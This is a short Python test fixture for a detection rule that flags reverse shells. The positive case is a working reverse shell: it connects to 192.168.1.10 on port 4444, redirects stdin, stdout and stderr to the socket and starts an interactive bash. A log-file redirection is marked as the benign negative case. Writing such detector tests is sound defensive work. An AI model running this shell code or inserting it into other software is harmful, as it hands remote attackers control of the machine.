import os
import socket
import subprocess


def connect(host, port):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.connect((host, port))
    return sock


def attach_shell(sock):
    for fd in (0, 1, 2):
        # ruleid: python-reverse-shell-split
        os.dup2(sock.fileno(), fd)
    subprocess.call(["/bin/bash", "-i"])


def redirect_log(logfile):
    # a log file, not a socket, onto stderr: the daemon idiom
    # ok: python-reverse-shell-split
    os.dup2(logfile.fileno(), 2)


if __name__ == "__main__":
    attach_shell(connect("192.168.1.10", 4444))
